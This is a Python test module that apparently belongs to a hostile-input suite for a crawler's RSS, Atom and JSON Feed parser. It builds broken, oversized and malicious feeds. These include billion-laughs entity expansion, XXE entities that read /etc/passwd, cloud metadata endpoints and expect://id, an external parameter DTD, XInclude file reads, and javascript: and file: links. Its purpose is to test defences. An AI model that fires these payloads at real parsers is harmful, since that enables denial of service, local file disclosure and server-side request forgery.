"""Feeds: RSS, Atom and JSON Feed, broken, lying and exploding. A bad entry costs itself, a bad feed itself."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator, Mapping
from typing import Any

from hostile.case import ANY, REFUSED, Case, Make, Route, mutated, noise, serve

KEPT = ("kept one", "kept two")
ALL_GOOD = frozenset(("stored",))


def item(title: str, text: str = "some words", more: str = "") -> str:
    return (
        f"<item><title>{title}</title><link>http://news.example/{title.replace(' ', '-')}</link>{more}"
        f"<description>{text}</description></item>"
    )


def rss(*items: str, head: str = "", before: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    return f'{before}<rss version="2.0"><channel><title>Feed</title>{head}{"".join(items)}</channel></rss>'


GOOD, ALSO = item("kept one", "words of the kept one"), item("kept two", "words of the kept two")
WHOLE = rss(GOOD, ALSO, *(item(f"entry {n}") for n in range(20)))


def atom(*entries: str) -> str:
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><title>Feed</title>{"".join(entries)}</feed>'


def entry(title: str, content: str = "some words", kind: str = "text") -> str:
    return (
        f"<entry><title>{title}</title><id>urn:{title.replace(' ', '-')}</id>"
        f'<content type="{kind}">{content}</content></entry>'
    )


def feed(
    name: str, content: str | bytes | Make, ends: frozenset[str] = ANY, keeps: tuple[str, ...] = (),
    media: str = "application/xml", more: Mapping[str, Route] | None = None, **given: Any,
) -> Case:  # fmt: skip
    def make() -> bytes:
        found = content() if callable(content) else content
        return found.encode("utf-8", "surrogatepass") if isinstance(found, str) else found

    return Case(
        name=f"feed-{name}", kind="feed", source=("feed", "{http}/feed.xml"), ends=ends, keeps=keeps,
        routes={"/feed.xml": serve(make, Content_Type=media), **(more or {})}, settings={"pages": False}, **given,
    )  # fmt: skip


def jsonfeed(*items: Any, **head: Any) -> str:
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Feed", "items": items, **head})


J1 = {"id": "1", "url": "http://news.example/1", "title": "kept one", "content_text": "words of the kept one"}
J2 = {"id": "2", "url": "http://news.example/2", "title": "kept two", "content_text": "words of the kept two"}


def cases() -> Iterator[Case]:
    yield from empty_and_foreign()
    yield from broken()
    yield from entities()
    yield from large()
    yield from encodings()
    yield from odd_fields()
    yield from of_json()
    yield from by_chance()


def empty_and_foreign() -> Iterator[Case]:
    for name, content in (
        ("empty", b""), ("blank", b" \r\n\t" * 1000), ("html", b"<!doctype html><html><body><p>no feed</p></html>"),
        ("noise", noise("feed", 200_000)), ("png", b"\x89PNG\r\n\x1a\n" + noise("png", 5000)),
        ("nul", b"\0" * 500_000), ("plain", b"just some words\n" * 100), ("opml", b"<opml><body/></opml>"),
        ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("only-declaration", b'<?xml version="1.0"?>'), ("gzip-unsaid", gzip.compress(WHOLE.encode())),
        ("zip", b"PK\x03\x04" + noise("zip", 3000)), ("pdf", b"%PDF-1.7\n" + noise("pdf", 3000)),
    ):  # fmt: skip
        yield feed(name, content, REFUSED)
    yield feed("without-entries", rss(), ANY)
    yield feed(
        "page-that-names-itself",
        b'<html><head><link rel="alternate" type="application/rss+xml" href="feed.xml"></head><body>x</body></html>',
        REFUSED, media="text/html",
    )  # fmt: skip
    yield feed(
        "page-that-names-a-private-feed",
        b'<html><head><link rel="alternate" type="application/rss+xml" href="http://10.9.8.7/feed"></head></html>',
        frozenset(("refused:private",)), media="text/html",
    )  # fmt: skip


def broken() -> Iterator[Case]:
    for name, content in (
        ("cut-in-an-entry", WHOLE[: WHOLE.index("entry 7") + 3]),
        ("unclosed-entry", rss("<item><title>lost<description>x", GOOD, ALSO)),
        ("bare-ampersands", rss(item("a & b &c; &", "x & y < z"), GOOD, ALSO)),
        ("unknown-names", rss(item("&nbsp;&hellip;&foo;"), GOOD, ALSO)),
        ("undeclared-prefix", rss(item("x", more="<evil:thing a='1'>y</evil:thing>"), GOOD, ALSO)),
        ("an-attribute-twice", rss(item("x", more="<guid a='1' a='2'>g</guid>"), GOOD, ALSO)),
        ("unquoted-attributes", rss(item("x", more="<guid isPermaLink=false>g</guid>"), GOOD, ALSO)),
        ("wrong-end-tags", rss(item("x", more="<b><i></b></i></wrong>"), GOOD, ALSO)),
        ("entry-in-an-entry", rss(f"<item><title>outer</title>{GOOD}</item>", ALSO)),
        ("leading-junk", "\n\nWarning: mysql_connect() in /x.php on line 3\n" + WHOLE),
        ("trailing-junk", WHOLE + "<!-- 0.2 s --><script>x</script>\0\0"),
        ("two-documents", WHOLE + WHOLE),
        ("markup-in-titles", rss(item("<b>bold</b> <script>x</script>"), GOOD, ALSO)),
        ("cdata-unclosed-at-the-end", rss(GOOD, ALSO) + "<![CDATA[ never closed"),
        ("control-characters", rss(item("a\x01\x02\x08\x0b\x1f\x7f b"), GOOD, ALSO)),
        ("nul-in-an-entry", rss(item("a\0b", "c\0d"), GOOD, ALSO)),
        ("no-channel", f"<rss>{GOOD}{ALSO}</rss>"),
        ("upper-case", WHOLE.replace("<item>", "<ITEM>").replace("</item>", "</ITEM>")),
        ("rdf", '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
         f"<channel/>{GOOD}<item>{ALSO}</rdf:RDF>"),
        ("atom-in-rss-in-atom", atom(entry("kept one", "words of the kept one"), rss(GOOD, before=""),
                                     entry("kept two", "words of the kept two"))),
        ("atom-broken-xhtml", atom(entry("x", "<div><p>a<br>b</div>", "xhtml"),
                                   entry("kept one", "words of the kept one"),
                                   entry("kept two", "words of the kept two"))),
        ("atom-unknown-type", atom(entry("x", "y", "application/x-evil"), entry("kept one", "words of the kept one"),
                                   entry("kept two", "words of the kept two"))),
    ):  # fmt: skip
        yield feed(name, content, ANY, KEPT)


def entities() -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    inside = {
        "billion-laughs": f'<!ENTITY l0 "ha">{laughs}',
        "quadratic": f'<!ENTITY l0 "{"a" * 50_000}">',
        "recursive": '<!ENTITY l0 "&l1;"><!ENTITY l1 "&l0;">',
        "of-a-file": '<!ENTITY l0 SYSTEM "file:///etc/passwd">',
        "of-the-network": '<!ENTITY l0 SYSTEM "http://169.254.169.254/latest/meta-data/">',
        "by-parameter": '<!ENTITY % p SYSTEM "http://10.9.8.7/evil.dtd"> %p; %all;',
        "of-a-pipe": '<!ENTITY l0 SYSTEM "expect://id">',
    }
    for name, declared in inside.items():
        text = f'<?xml version="1.0"?><!DOCTYPE rss [{declared}]>' + rss(
            item("&l0;" * 2000 if name == "quadratic" else "&l11;&l0;"), GOOD, before=""
        )
        # Without an entity of its own there is nothing to expand; the DTD is never read.
        yield feed(f"entities-{name}", text, ANY if name == "by-parameter" else REFUSED, leaks=("root:",))
    yield feed(
        "entities-far-inside",
        f"<!DOCTYPE rss [{' ' * 30_000}<!ENTITY l0 'x'>]>" + rss(item("&l0;"), GOOD, before=""),
        ANY,
    )
    yield feed(
        "dtd-of-the-network", '<!DOCTYPE rss SYSTEM "http://10.9.8.7/rss.dtd">' + rss(GOOD, ALSO, before=""), ANY, KEPT
    )
    yield feed(
        "stylesheet-of-the-network",
        '<?xml-stylesheet href="http://10.9.8.7/x.xsl" type="text/xsl"?>' + rss(GOOD, ALSO),
        ANY, KEPT,
    )  # fmt: skip
    yield feed(
        "xinclude", rss(item("x", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                             'parse="text"/>'), GOOD, ALSO), ANY, KEPT, leaks=("root:",),
    )  # fmt: skip
    yield feed("references-to-nothing", rss(item("&#0;&#xFFFFFFFF;&#x110000;&#xD800;&#xFFFE;"), GOOD, ALSO), ANY, KEPT)


def large() -> Iterator[Case]:
    wide = "".join(f' a{n}="{n}"' for n in range(100_000))
    spaces = "".join(f' xmlns:n{n}="http://n{n}.example/"' for n in range(10_000))
    makes: tuple[tuple[str, Make, tuple[str, ...]], ...] = (
        ("a-hundred-thousand-entries", lambda: rss(*(item(f"n{n}") for n in range(100_000))).encode(), ()),
        ("nested-deep", lambda: rss(GOOD, "<a>" * 100_000 + "x" + "</a>" * 100_000, ALSO).encode(), ("kept one",)),
        ("nested-deep-unclosed", lambda: (rss(GOOD) + "<a>" * 500_000).encode(), ()),
        ("a-hundred-thousand-attributes", lambda: rss(GOOD, f"<item{wide}><title>x</title></item>", ALSO).encode(), ()),
        ("ten-thousand-namespaces", lambda: rss(GOOD, f"<item{spaces}><title>x</title></item>", ALSO).encode(), ()),
        ("a-long-attribute", lambda: rss(GOOD, f'<item a="{"x" * 5_000_000}"/>', ALSO).encode(), ("kept one",)),
        ("a-long-title", lambda: rss(GOOD, item("long " * 400_000), ALSO).encode(), KEPT),
        ("a-long-name", lambda: rss(GOOD, f"<{'n' * 3_000_000}/>", ALSO).encode(), ()),
        (
            "a-long-link",
            lambda: rss(GOOD, f"<item><link>http://a.example/{'x' * 3_000_000}</link></item>", ALSO).encode(),
            KEPT,
        ),
        ("less-thans", lambda: b"<rss><channel>" + b"<" * 9_000_000, ()),
        ("comment-unclosed", lambda: (rss(GOOD, ALSO)[:-16] + "<!--" + "-" * 9_000_000).encode(), ()),
        ("cdata-unclosed", lambda: (rss(GOOD)[:-16] + "<item><title><![CDATA[" + "]]" * 4_000_000).encode(), ()),
        ("cdata-begun-and-begun", lambda: (rss(GOOD)[:-16] + "<![CDATA[" * 1_000_000).encode(), ()),
        ("references", lambda: rss(GOOD, item("&#x41;" * 700_000), ALSO).encode(), KEPT),
        ("ampersands", lambda: rss(GOOD, item("x", "&" * 9_000_000)).encode(), ("kept one",)),
        ("instructions", lambda: rss(GOOD, "<?a?>" * 1_500_000, ALSO).encode(), KEPT),
        ("comments", lambda: rss(GOOD, "<!---->" * 1_200_000, ALSO).encode(), KEPT),
        ("empty-elements", lambda: rss(GOOD, "<x/>" * 2_000_000, ALSO).encode(), ()),
        ("doctype-unclosed", lambda: b"<!DOCTYPE rss [" + b"<!" * 4_000_000, ()),
        ("declaration-unclosed", lambda: b"<?xml " + b"a='1' " * 1_500_000, ()),
        ("over-the-budget", lambda: rss(item("x" * 11_000_000)).encode(), ()),
        ("one-entry-of-markup", lambda: rss(GOOD, item("x", "&lt;b&gt;" * 1_000_000), ALSO).encode(), KEPT),
        ("tags-in-a-title", lambda: rss(GOOD, item("&lt;a" * 700_000), ALSO).encode(), ("kept one",)),
    )
    for name, make, keeps in makes:
        yield feed(f"large-{name}", make, ANY, keeps)


def encodings() -> Iterator[Case]:
    declared = '<?xml version="1.0" encoding="{}"?>'
    latin = rss(item("caf\xe9"), GOOD, ALSO, before=declared.format("utf-8")).encode("latin-1")
    yield feed("encoding-lies", latin, ANY, KEPT)
    for name in ("utf-7", "x-klingon", "punycode", "idna", "unicode_escape", "zlib", "rot13", "base64", "utf-16",
                 "ucs-4", "hex", "mbcs", "undefined", "A" * 39, "iso-8859-99", "utf-8\t"):  # fmt: skip
        yield feed(
            f"encoding-{name.strip().lower()}", rss(GOOD, ALSO, before=declared.format(name)).encode(), ANY, KEPT
        )
    yield feed("encoding-utf-7-markup", rss(item("+ADw-script+AD4-"), GOOD, ALSO, before=declared.format("utf-7")), ANY,
               KEPT)  # fmt: skip
    whole = rss(item("m\xf6re"), GOOD, ALSO, before="<?xml version='1.0'?>")
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-8-sig"):
        keeps = KEPT if name in ("utf-16", "utf-32", "utf-8-sig") else ()
        yield feed(f"bytes-{name}", whole.encode(name), ANY, keeps)
    yield feed("bytes-mixed", rss(item("a"), GOOD).encode() + item("\xe9\xe8").encode("latin-1")
               + item("д").encode("koi8-r") + ALSO.encode(), ANY, ("kept one",))  # fmt: skip
    yield feed("two-marks", b"\xef\xbb\xbf\xef\xbb\xbf" + WHOLE.encode(), ANY, KEPT)
    yield feed("wrong-mark", b"\xff\xfe" + WHOLE.encode(), ANY)
    yield feed("overlong", rss(item("X"), GOOD, ALSO).encode().replace(b"X", b"\xc0\xbc\xe0\x80\xbc"), ANY, KEPT)
    yield feed("surrogates-in-utf-8", rss(item("\ud800\udfff"), GOOD, ALSO), ANY, KEPT)
    yield feed("charset-of-http-lies", whole.encode(), ANY, KEPT, media="application/xml; charset=utf-16")
    yield feed("charset-of-http-is-long", whole.encode(), ANY, KEPT, media="text/xml; charset=" + "x" * 5000)


def odd_fields() -> Iterator[Case]:
    links = "".join(
        f"<item><title>link {n}</title><link>{link}</link><description>words {n}</description></item>"
        for n, link in enumerate(("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "http://10.9.8.7/",
                                  "http://[::1", "http://a b/", "//\\evil", "\x00", "http://u:p@a.example/", "feed:x"))
    )  # fmt: skip
    yield feed("odd-links", rss(GOOD, links, ALSO), ANY, KEPT, leaks=("root:",))
    yield feed("odd-dates", rss(*(item(f"d{n}", more=f"<pubDate>{d}</pubDate>") for n, d in enumerate(
        ("99999-13-45", "-1", "Mon, 32 Foo 20000000000 25:61:61 +9999", "0", "1" * 4000, "\u0661\u0662",
        "NaN"))), GOOD, ALSO),
        ANY, KEPT)  # fmt: skip
    yield feed(
        "one-guid-for-all", rss(*(item(f"g{n}", more="<guid>same</guid>") for n in range(1000)), GOOD, ALSO), ANY, KEPT
    )
    yield feed("the-same-entry-again", rss(*(GOOD for _ in range(2000)), ALSO), ANY, KEPT)
    yield feed("entries-of-nothing", rss(*("<item/>" for _ in range(3000)), GOOD, ALSO), ANY, KEPT)
    yield feed(
        "bidi-and-invisible",
        rss(item("\u202ereversed\u202c \u200b\u2066\u2069\ufeff \U000e0041"), GOOD, ALSO),
        ANY,
        KEPT,
    )
    yield feed("marks-upon-marks", rss(item("z" + "\u0300" * 50_000), GOOD, ALSO), ANY, KEPT)
    yield feed("evil-base", rss(GOOD, ALSO).replace("<channel>", '<channel xml:base="file:///etc/">'), ANY, KEPT)
    yield feed("language-of-markup", rss(GOOD, ALSO, head='<language>"&gt;&lt;script&gt;</language>'), ANY, KEPT)
    yield feed("warc-in-a-title", rss(item("x\r\n\r\nWARC/1.0\r\nWARC-Type: response\r\n\r\n"), GOOD, ALSO), ANY, KEPT)


def of_json() -> Iterator[Case]:
    def kind(name: str, content: str | bytes | Make, ends: frozenset[str] = ANY, keeps: tuple[str, ...] = ()) -> Case:
        return feed(f"json-{name}", content, ends, keeps, media="application/feed+json")

    whole = jsonfeed(J1, J2)
    yield kind("cut", whole[:-30], REFUSED)
    yield kind("nested-deep", lambda: b'{"a":' * 200_000, REFUSED)
    yield kind(
        "nested-lists", lambda: b'{"version":"https://jsonfeed.org/version/1","items":' + b"[" * 500_000, REFUSED
    )
    yield kind("nested-in-an-entry", lambda: (
        whole[:-2] + ',{"id":"x","a":' + "[" * 900 + "]" * 900 + "}]}").encode(), ANY, KEPT)  # fmt: skip
    yield kind("long-number", whole[:-2] + ',{"id":' + "9" * 100_000 + "}]}", ANY)
    yield kind("large-exponent", whole[:-2] + ',{"id":1e999999,"title":"x"}]}', ANY, KEPT)
    yield kind("not-a-number", whole[:-2] + ',{"id":NaN,"url":Infinity}]}', ANY, KEPT)
    yield kind("surrogates", jsonfeed(J1, {"id": "x", "title": "\ud800", "content_text": "\udfff y"}, J2), ANY, KEPT)
    yield kind("nul", jsonfeed(J1, {"id": "\0", "title": "a\0b", "content_html": "<p>\0</p>"}, J2), ANY, KEPT)
    yield kind("wrong-types", jsonfeed(J1, 7, None, [], "x", {"id": [], "url": {}, "title": 5, "authors": "me"},
                                       {"authors": [None, 5, {"name": []}], "id": True}, J2), ANY, KEPT)  # fmt: skip
    yield kind("items-are-an-object", jsonfeed(items={"a": 1}), REFUSED)
    yield kind("a-key-twice", whole[:-1] + ',"version":"x"}', ANY)
    yield kind("in-utf-16", whole.encode("utf-16"), ANY)
    yield kind("with-a-mark", b"\xef\xbb\xbf" + whole.encode(), ANY, KEPT)
    yield kind(
        "a-long-text", lambda: jsonfeed(J1, {"id": "x", "content_text": "word " * 1_800_000}, J2).encode(), ANY, KEPT
    )
    yield kind(
        "many-entries", lambda: jsonfeed(*({"id": str(n), "content_text": "x"} for n in range(100_000))).encode(), ANY
    )
    yield kind("many-keys", lambda: jsonfeed(J1, {f"k{n}": n for n in range(300_000)}, J2).encode(), ANY, KEPT)
    yield kind("trailing-junk", whole + "}}", ANY)
    yield kind("odd-links", jsonfeed(J1, *({"id": f"{n}", "url": u, "content_text": f"t{n}"} for n, u in enumerate(
        ("javascript:x", "file:///etc/passwd", "http://10.9.8.7/", "http://[", "\n"))), J2), ANY, KEPT)  # fmt: skip


def by_chance() -> Iterator[Case]:
    for n in range(8):
        yield feed(f"chance-rss-{n}", mutated(f"rss {n}", WHOLE.encode(), 3 + 6 * n))
    whole = jsonfeed(J1, J2, *({"id": f"{n}", "content_text": "words"} for n in range(9)))
    for n in range(4):
        yield feed(f"chance-json-{n}", mutated(f"json {n}", whole.encode(), 1 + n), media="application/feed+json")
